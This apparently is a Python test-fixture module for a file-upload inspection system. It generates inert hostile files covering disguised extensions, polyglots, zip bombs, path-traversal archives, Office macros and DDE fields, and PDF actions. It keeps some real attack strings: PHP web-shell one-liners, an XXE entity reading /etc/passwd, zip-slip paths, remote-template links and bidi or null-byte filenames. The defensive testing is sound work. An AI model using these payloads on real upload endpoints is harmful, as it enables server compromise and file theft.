"""Two hundred hostile files of story M1, built inert: markers in place of payloads, nothing that does anything."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache

import pikepdf
from PIL import Image

from tests.kernel.files.inspection import documents as made

# Split, so that no part of this file is what it builds.
PHP = b"<?" + b"php echo 'inert marker'; ?>"
PHP_SHELL = b"<?" + b"php @eval($_POST['inert']); ?>"
PHP_SHORT = b"<?" + b"= `$_GET[0]` ?>"
JSP = b'<%@ page import="java.util.*" %><% out.println("inert"); %>'
ASP = b'<%eval request("inert")%>'
ASPX = b'<%@ Page Language="C#" %><script runat="server">// inert</script>'
HTML = b"<!DOCTYPE html><html><body><script>/* inert */</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="inert()"><script>inert()</script></svg>'
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SERVER_CODE = {"php": PHP, "php-shell": PHP_SHELL, "php-short": PHP_SHORT, "jsp": JSP, "asp": ASP, "aspx": ASPX}
PROGRAM = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"This program cannot be run in DOS mode.\r\n"

Hostile = tuple[str, str, bytes]


def archive(parts: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return out.getvalue()


def names() -> Iterator[Hostile]:
    """A good file under a bad name."""
    picture, paper = made.jpeg(), made.pdf()
    for ending in (
        "php",
        "phtml",
        "php5",
        "phar",
        "pht",
        "jsp",
        "jspx",
        "asp",
        "aspx",
        "ashx",
        "cgi",
        "pl",
        "py",
        "sh",
    ):
        yield f"double-{ending}", f"foto.{ending}.jpg", picture
    for ending in ("php", "html", "svg", "exe", "js", "hta", "lnk", "jsp", "xhtml", "swf", "jar", "bat", "ps1", "vbs"):
        yield f"last-{ending}", f"surat.pdf.{ending}", paper
    yield "dotfile", ".htaccess", b"AddType application/x-httpd-php .jpg"
    yield "dotfile-picture", ".foto.jpg", picture
    yield "settings", "web.config", b"<configuration/>"
    yield "user-ini", ".user.ini", b"auto_prepend_file=foto.jpg"
    yield "null", "shell.php\0.jpg", picture
    yield "null-quoted", "shell.php%00.jpg", picture
    yield "semicolon", "shell.asp;.jpg", picture
    yield "stream", "shell.php:.jpg", picture
    yield "path", "../../static/foto.jpg", picture
    yield "windows-path", "..\\..\\foto.jpg", picture
    yield "bidi", "surat\u202egpj.pdf", paper
    yield "bidi-isolate", "surat\u2066fdp.pdf", paper
    yield "zero-width", "shell.p\u200bhp.jpg", picture
    yield "newline", "surat\r\nContent-Type: text/html.pdf", paper
    yield "wide-dot", "shell\uff0ephp\uff0ejpg", picture
    yield "blank", "shell.php .jpg", picture
    yield "trailing-dot", "shell.php.", picture
    yield "long", "a" * 300 + ".pdf", paper
    yield "no-name", ".pdf", paper
    yield "markup", "<svg onload=inert>.pdf", paper
    yield "upper", "shell.PhP7.JPG", picture


def disguised() -> Iterator[Hostile]:
    """Something else under the name of a document or a picture."""
    things = {**SERVER_CODE, "html": HTML, "svg": SVG, "program": PROGRAM, "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 60}
    for ending in ("jpg", "png", "pdf", "docx"):
        for name, content in things.items():
            yield f"{name}-as-{ending}", f"berkas.{ending}", content
    yield "html-with-bom", "berkas.jpg", b"\xef\xbb\xbf" + HTML
    yield "html-behind-comment", "berkas.png", b"<!-- " + b"x" * 500 + b" -->" + HTML
    yield "svg-behind-xml", "berkas.png", b'<?xml version="1.0"?>\n' + SVG
    yield "html-utf16", "berkas.jpg", "\ufeff<html><script>inert()</script></html>".encode("utf-16-le")
    yield "gif-head-php", "berkas.jpg", b"GIF89a" + PHP
    yield "rtf", "berkas.docx", b"{\\rtf1 inert}"
    yield "old-word", "berkas.doc", made.compound("WordDocument", "Macros", "VBA")
    yield "old-excel-as-new", "berkas.xlsx", made.compound("Workbook")
    yield "locked-office", "berkas.docx", made.compound("EncryptedPackage", "EncryptionInfo")
    yield "rar", "berkas.pdf", b"Rar!\x1a\x07\x00" + b"\0" * 30
    yield "zip-as-pdf", "berkas.pdf", archive({"a.php": PHP})
    yield "zip-as-docx", "berkas.docx", archive({"a.php": PHP})
    yield (
        "jar-as-docx",
        "berkas.docx",
        archive({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0", "A.class": b"\xca\xfe\xba\xbe"}),
    )
    yield "pdf-as-jpg", "foto.jpg", made.pdf()
    yield "png-as-jpg", "foto.jpg", made.png()
    yield "empty", "foto.jpg", b""
    yield (
        "smuggling",
        "surat.pdf",
        b"<script>navigator.msSaveOrOpenBlob(new Blob([atob('" + b"QUJD" * 3000 + b"')]))</script>",
    )


def polyglots() -> Iterator[Hostile]:
    """Two kinds at once."""
    picture, drawn, paper = made.jpeg(), made.png(), made.pdf()
    packed = archive({"shell.php": PHP})
    for name, content in {
        **SERVER_CODE,
        "html": HTML,
        "svg": SVG,
        "program": PROGRAM,
        "zip": packed,
        "pdf": paper,
    }.items():
        yield f"jpeg-then-{name}", "foto.jpg", picture + content
        yield f"png-then-{name}", "foto.png", drawn + content
    for name, content in SERVER_CODE.items():
        yield f"jpeg-head-{name}", "foto.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + content
        yield f"png-head-{name}", "foto.png", b"\x89PNG\r\n\x1a\n" + content
        yield f"pdf-head-{name}", "surat.pdf", b"%PDF-1.7\n" + content
        yield f"pdf-then-{name}", "surat.pdf", paper + b"\n" + content
    yield "jpeg-html-in-comment", "foto.jpg", made.jpeg_with_segment(0xFE, HTML)
    yield "jpeg-pdf-in-comment", "foto.jpg", made.jpeg_with_segment(0xFE, b"%PDF-1.4\n1 0 obj<<>>endobj")
    yield "jpeg-zip-in-comment", "foto.jpg", made.jpeg_with_segment(0xFE, packed)
    yield "pdf-then-zip", "surat.pdf", paper + packed
    yield "pdf-then-html", "surat.pdf", b"%PDF-1.4\n" + HTML + paper[9:]
    yield "pdf-not-at-beginning", "surat.pdf", b"GIF89a padding\n" + paper
    yield "pdf-then-much", "surat.pdf", paper + b"A" * 5000
    yield "zip-before-docx", "surat.docx", b"#!/bin/sh\n# inert\n" + made.word()
    yield "docx-then-data", "surat.docx", made.word() + b"A" * 5000
    yield "jpeg-unknown-tail", "foto.jpg", picture + bytes(range(1, 255)) * 20


def hidden_in_pictures() -> Iterator[Hostile]:
    """Valid pictures that carry code; made anew, nothing of it may be left."""
    for name, code in SERVER_CODE.items():
        yield f"jpeg-comment-{name}", "foto.jpg", made.jpeg_with_segment(0xFE, b"x" * 1100 + code)
        yield f"png-words-{name}", "foto.png", made.png_with_words("x" * 1100 + code.decode())
        exif = Image.Exif()
        exif[0x010E] = code.decode()
        yield f"jpeg-exif-{name}", "foto.jpg", made.jpeg(exif=exif)
        yield f"webp-xmp-{name}", "foto.webp", made.webp(xmp=code)
    palette = Image.new("P", (32, 32))
    palette.putpalette(PHP_SHELL.ljust(768, b"\0"))
    yield "png-palette-php", "foto.png", made.png(palette)
    pixels = Image.frombytes("RGB", (40, 10), (PHP_SHELL + b" " * 1200)[:1200])
    yield "png-pixels-php", "foto.png", made.png(pixels, compress_level=0)
    yield "png-chunk-php", "foto.png", made.png()[:33] + made.png_chunk(b"prIv", PHP_SHELL) + made.png()[33:]


def bombs() -> Iterator[Hostile]:
    """Little that becomes much."""
    nothing = b"\0" * (110 * 1024 * 1024)
    for ending, plain in (("docx", made.word()), ("xlsx", made.sheet()), ("pptx", made.slides())):
        yield f"bomb-{ending}", f"besar.{ending}", made.repacked(plain, add={"docProps/more.xml": nothing})
        yield (
            f"ratio-{ending}",
            f"besar.{ending}",
            made.repacked(plain, add={"docProps/more.xml": nothing[: 40 * 1024 * 1024]}),
        )
        many = {f"docProps/{number}.xml": b"<a/>" for number in range(2_100)}
        yield f"entries-{ending}", f"banyak.{ending}", made.repacked(plain, add=many)
    inside = made.sheet()
    for _depth in range(4):
        inside = made.repacked(made.sheet(), add={"xl/embeddings/lembar.xlsx": inside})
    yield "nested", "sarang.xlsx", inside
    lying = bytearray(made.repacked(made.sheet(), add={"docProps/more.xml": nothing[: 1024 * 1024]}))
    at = lying.rindex(b"PK\x01\x02", 0, lying.rindex(b"docProps/more.xml"))
    lying[at + 24 : at + 28] = struct.pack("<I", 10)
    yield "lying-size", "besar.xlsx", bytes(lying)
    yield "page-pdf", "surat.pdf", made.changed_pdf(_write_huge_page)
    yield "pixels-png", "foto.png", _huge_png(60_000, 60_000)
    yield "pixels-png-many", "foto.png", _huge_png(7_000, 7_000)
    wide = bytearray(made.jpeg())
    at = wide.index(b"\xff\xc0")
    wide[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    yield "pixels-jpeg", "foto.jpg", bytes(wide)
    entities = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
    yield "xml-entities", "tabel.xlsx", made.repacked(made.sheet(), change={"xl/workbook.xml": lambda _old: entities})
    yield (
        "xml-outside",
        "surat.docx",
        made.repacked(
            made.word(),
            change={
                "word/settings.xml": lambda old: old.replace(b"?>", b'?><!DOCTYPE x SYSTEM "file:///etc/passwd">', 1)
            },
        ),
    )


def _write_huge_page(document: pikepdf.Pdf) -> None:
    """What draws the page is 200 MB of nothing, packed twice."""
    page = document.make_stream(b"")
    twice = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    page.write(zlib.compress(zlib.compress(b"0" * 200_000_000)), filter=twice)
    document.pages[0].Contents = page


def _huge_png(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 100_000)
    return (
        b"\x89PNG\r\n\x1a\n"
        + made.png_chunk(b"IHDR", head)
        + made.png_chunk(b"IDAT", body)
        + made.png_chunk(b"IEND", b"")
    )


def packed() -> Iterator[Hostile]:
    """Office files whose packing is the attack."""
    plain = made.word()
    for name in ("../../shell.php", "/etc/cron.d/inert", "..\\..\\shell.php", "word/../../x.xml", "C:/inert.xml"):
        yield f"path-{name}", "surat.docx", made.repacked(plain, add={name: b"inert"})
    for name in (
        "word/shell.php",
        "word/media/a.exe",
        "word/media/a.js",
        "word/a.html",
        "word/media/a.hta",
        "word/a.lnk",
    ):
        yield f"part-{name}", "surat.docx", made.repacked(plain, add={name: PHP})
    out = io.BytesIO(plain)
    with zipfile.ZipFile(out, "a") as file:
        link = zipfile.ZipInfo("word/media/link.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    yield "symlink", "surat.docx", out.getvalue()
    out = io.BytesIO(plain)
    with zipfile.ZipFile(out, "a") as file:
        file.writestr("WORD/document.xml", b"<other/>")
    yield "part-twice", "surat.docx", out.getvalue()
    yield "program-as-picture", "surat.docx", made.repacked(plain, add={"word/media/image9.png": PROGRAM})
    yield "test-string-inside", "surat.docx", made.repacked(plain, add={"word/media/image9.bin": EICAR})
    yield (
        "php-in-part",
        "surat.docx",
        made.repacked(plain, change={"word/settings.xml": lambda old: old.replace(b"?>", b"?>" + PHP, 1)}),
    )
    two = bytearray(plain)
    at = two.index(b"word/document.xml")
    two[at : at + 4] = b"evil"
    yield "two-names", "surat.docx", bytes(two)
    yield "no-types", "surat.docx", made.repacked(plain, leave_out=("[Content_Types].xml",))
    yield "no-main", "surat.docx", made.repacked(plain, leave_out=("word/document.xml",))
    yield "sheet-as-docx", "surat.docx", made.sheet()
    yield "docx-as-sheet", "tabel.xlsx", made.word()
    yield (
        "stored-php",
        "surat.docx",
        archive({"[Content_Types].xml": PHP, "_rels/.rels": PHP}, method=zipfile.ZIP_STORED),
    )


def _recoded(part: bytes) -> bytes:
    return part.replace(b"UTF-8", b"IBM037").replace(b"utf-8", b"IBM037")


def macros() -> Iterator[Hostile]:
    """Office files with something that runs or fetches."""
    word, sheet, slides = made.word(), made.sheet(), made.slides()
    types = "[Content_Types].xml"
    for ending, plain, folder in (("docx", word, "word"), ("xlsx", sheet, "xl"), ("pptx", slides, "ppt")):
        yield (
            f"macro-{ending}",
            f"makro.{ending}",
            made.repacked(plain, add={f"{folder}/vbaProject.bin": made.compound("VBA")}),
        )
        yield (
            f"macro-renamed-{ending}",
            f"makro.{ending}",
            made.repacked(plain, add={f"{folder}/embeddings/data.bin": made.compound("VBA", "_VBA_PROJECT")}),
        )
        yield (
            f"active-x-{ending}",
            f"objek.{ending}",
            made.repacked(plain, add={f"{folder}/activeX/activeX1.xml": b"<ocx/>"}),
        )
        yield (
            f"packaged-{ending}",
            f"objek.{ending}",
            made.repacked(plain, add={f"{folder}/embeddings/oleObject1.bin": made.compound("\x01Ole10Native")}),
        )
    enabled = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    yield (
        "macro-type",
        "makro.docx",
        made.repacked(
            word,
            change={
                types: lambda old: old.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", enabled
                )
            },
        ),
    )
    rels = "word/_rels/document.xml.rels"
    for kind, target in (
        (b"attachedTemplate", b"http://198.51.100.7/a.dotm"),
        (b"oleObject", b"http://198.51.100.7/a.html!"),
        (b"frame", b"http://198.51.100.7/a.html"),
        (b"subDocument", b"http://198.51.100.7/a.docx"),
        (b"image", b"\\\\198.51.100.7\\a.png"),
        (b"hyperlink", b"javascript:inert()"),
        (b"hyperlink", b"ms-msdt:/id inert"),
        (b"hyperlink", b"search-ms:query=inert"),
        (b"hyperlink", b"file:///C:/inert.exe"),
    ):
        yield (
            f"outside-{kind.decode()}-{target[:6].decode()}",
            "surat.docx",
            made.repacked(word, change={rels: made.relation(kind, target)}),
        )
    yield (
        "template-in-settings",
        "surat.docx",
        made.repacked(
            word,
            add={
                "word/_rels/settings.xml.rels": made.relation(b"attachedTemplate", b"file:///C:/inert.dotm")(
                    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
                )
            },
        ),
    )
    yield (
        "page-inside",
        "surat.docx",
        made.repacked(
            word, change={rels: made.relation(b"aFChunk", b"/word/a.mht", outside=False)}, add={"word/a.mht": HTML}
        ),
    )
    runs = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % part for part in (b"DD", b"EAU", b"TO c:\\\\inert"))
    field = b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>%s</w:p>'
    body = b"<w:sectPr"
    for name, inner in (
        ("plain", b"<w:r><w:instrText>DDEAUTO c:\\\\inert</w:instrText></w:r>"),
        ("split", runs),
        ("spelt", b"<w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r>"),
        ("coded", b"<w:r><w:instrText>&#68;&#68;E &quot;inert&quot;</w:instrText></w:r>"),
        ("link-script", b"<w:r><w:instrText>HYPERLINK &quot;javascript:inert()&quot;</w:instrText></w:r>"),
        ("link-program", b'<w:r><w:instrText>HYPERLINK \\o "a" "file:///C:/inert.exe"</w:instrText></w:r>'),
        ("share", b'<w:r><w:instrText>INCLUDEPICTURE "\\\\\\\\198.51.100.7\\\\a.png" \\d</w:instrText></w:r>'),
    ):
        yield (
            f"field-{name}",
            "surat.docx",
            made.repacked(word, change={"word/document.xml": made.put_in(body, field % inner)}),
        )
    simple = b'<w:p><w:fldSimple w:instr="DDE inert"/></w:p>'
    yield "dde-simple", "surat.docx", made.repacked(word, change={"word/document.xml": made.put_in(body, simple)})
    page = "xl/worksheets/sheet1.xml"
    for name, formula in (
        ("dde", b"cmd|'/c inert'!A1"),
        ("call", b'CALL("inert","a","J")'),
        ("exec", b'EXEC("inert")'),
        ("link", b'HYPERLINK("javascript:inert()","a")'),
    ):
        row = b'<row r="9"><c r="A9"><f>%s</f></c></row>' % formula
        yield f"formula-{name}", "tabel.xlsx", made.repacked(sheet, change={page: made.put_in(b"</sheetData>", row)})
    yield (
        "dde-link",
        "tabel.xlsx",
        made.repacked(
            sheet,
            add={"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"},
        ),
    )
    yield "other-coding", "surat.docx", made.repacked(word, change={"word/settings.xml": _recoded})
    yield "macro-sheet", "tabel.xlsx", made.repacked(sheet, add={"xl/macrosheets/sheet1.xml": b"<macrosheet/>"})
    action = b'<a:hlinkClick xmlns:a="a" action="ppaction://%s?inert"/>'
    slide = "ppt/slides/slide1.xml"
    for verb in (b"program", b"macro"):
        yield (
            f"action-{verb.decode()}",
            "paparan.pptx",
            made.repacked(slides, change={slide: made.put_in(b"</p:sld>", action % verb)}),
        )
    yield "svg-inside", "paparan.pptx", made.repacked(slides, add={"ppt/media/image9.svg": SVG})


def papers() -> Iterator[Hostile]:
    """PDF with something that runs, fetches or carries a file."""

    def action(said: pikepdf.Dictionary) -> bytes:
        return made.changed_pdf(lambda document: document.Root.__setitem__("/OpenAction", said))

    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("inert()"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("inert.exe"))
    yield "pdf-script", "surat.pdf", action(js)
    yield "pdf-launch", "surat.pdf", action(launch)
    yield "pdf-embedded-goto", "surat.pdf", action(pikepdf.Dictionary(S=pikepdf.Name("/GoToE"), F=pikepdf.String("a")))
    yield "pdf-script-after-page", "surat.pdf", action(pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=js))
    yield (
        "pdf-script-in-list",
        "surat.pdf",
        action(pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=pikepdf.Array([launch]))),
    )
    yield (
        "pdf-page-script",
        "surat.pdf",
        made.changed_pdf(lambda document: document.pages[0].__setitem__("/AA", pikepdf.Dictionary(O=js))),
    )
    yield (
        "pdf-script-in-stream",
        "surat.pdf",
        made.changed_pdf(
            lambda document: document.Root.__setitem__(
                "/OpenAction", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=document.make_stream(b"inert()"))
            )
        ),
    )
    yield (
        "pdf-named-script",
        "surat.pdf",
        made.changed_pdf(
            lambda document: document.Root.__setitem__(
                "/Names",
                pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js]))),
            )
        ),
    )
    yield "pdf-packed-script", "surat.pdf", _packed_script()
    yield "pdf-hex-name", "surat.pdf", action(js).replace(b"/JavaScript", b"/J#61vaScr#69pt")

    def attach(document: pikepdf.Pdf) -> None:
        document.attachments["inert.exe"] = PROGRAM

    yield "pdf-attachment", "surat.pdf", made.changed_pdf(attach)
    yield (
        "pdf-media",
        "surat.pdf",
        made.changed_pdf(
            lambda document: document.pages[0].__setitem__(
                "/Annots",
                pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/RichMedia"))]),
            )
        ),
    )
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:inert()"))
    yield (
        "pdf-link-runs",
        "surat.pdf",
        made.changed_pdf(
            lambda document: document.pages[0].__setitem__(
                "/Annots",
                pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=link)]),
            )
        ),
    )
    with pikepdf.open(io.BytesIO(made.pdf())) as document:
        locked = made.saved(lambda out: document.save(out, encryption=pikepdf.Encryption(owner="a", user="b")))
        restricted = made.saved(lambda out: document.save(out, encryption=pikepdf.Encryption(owner="a", user="")))
    yield "pdf-locked", "surat.pdf", locked
    yield "pdf-restricted", "surat.pdf", restricted
    yield "pdf-cut", "surat.pdf", made.pdf()[:200]
    yield "pdf-only-head", "surat.pdf", b"%PDF-1.7\n%%EOF"
    yield "pdf-php-stored", "surat.pdf", made.pdf(PHP_SHELL.decode(), compress=0)


def _packed_script() -> bytes:
    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("inert()"))
    with pikepdf.open(io.BytesIO(made.pdf())) as document:
        document.Root.OpenAction = document.make_indirect(js)
        return made.saved(lambda out: document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate))


def lures() -> Iterator[Hostile]:
    """Advertisements in the name, the words and the titles of documents."""
    advert = (
        "Situs slot gacor maxwin terpercaya MENANG88, bonus new member 100%, daftar sekarang depo pulsa tanpa potongan"
    )
    yield "advert-pdf", "lampiran.pdf", made.pdf(advert)
    yield "advert-docx", "lampiran.docx", made.word(advert)
    yield "advert-pptx", "lampiran.pptx", made.slides(advert)
    yield "advert-xlsx", "lampiran.xlsx", made.sheet([["No", "Uraian"], [1, advert]])
    yield "advert-title", "lampiran.pdf", made.pdf(title=advert)
    yield "advert-name", "slot gacor maxwin MENANG88 daftar sekarang bonus new member.pdf", made.pdf()


FAMILIES = {
    "names": names,
    "disguised": disguised,
    "polyglots": polyglots,
    "hidden in pictures": hidden_in_pictures,
    "bombs": bombs,
    "packed": packed,
    "macros": macros,
    "papers": papers,
    "lures": lures,
}


@cache
def files_of(family: str) -> list[Hostile]:
    """The files of a family, built once."""
    return list(FAMILIES[family]())
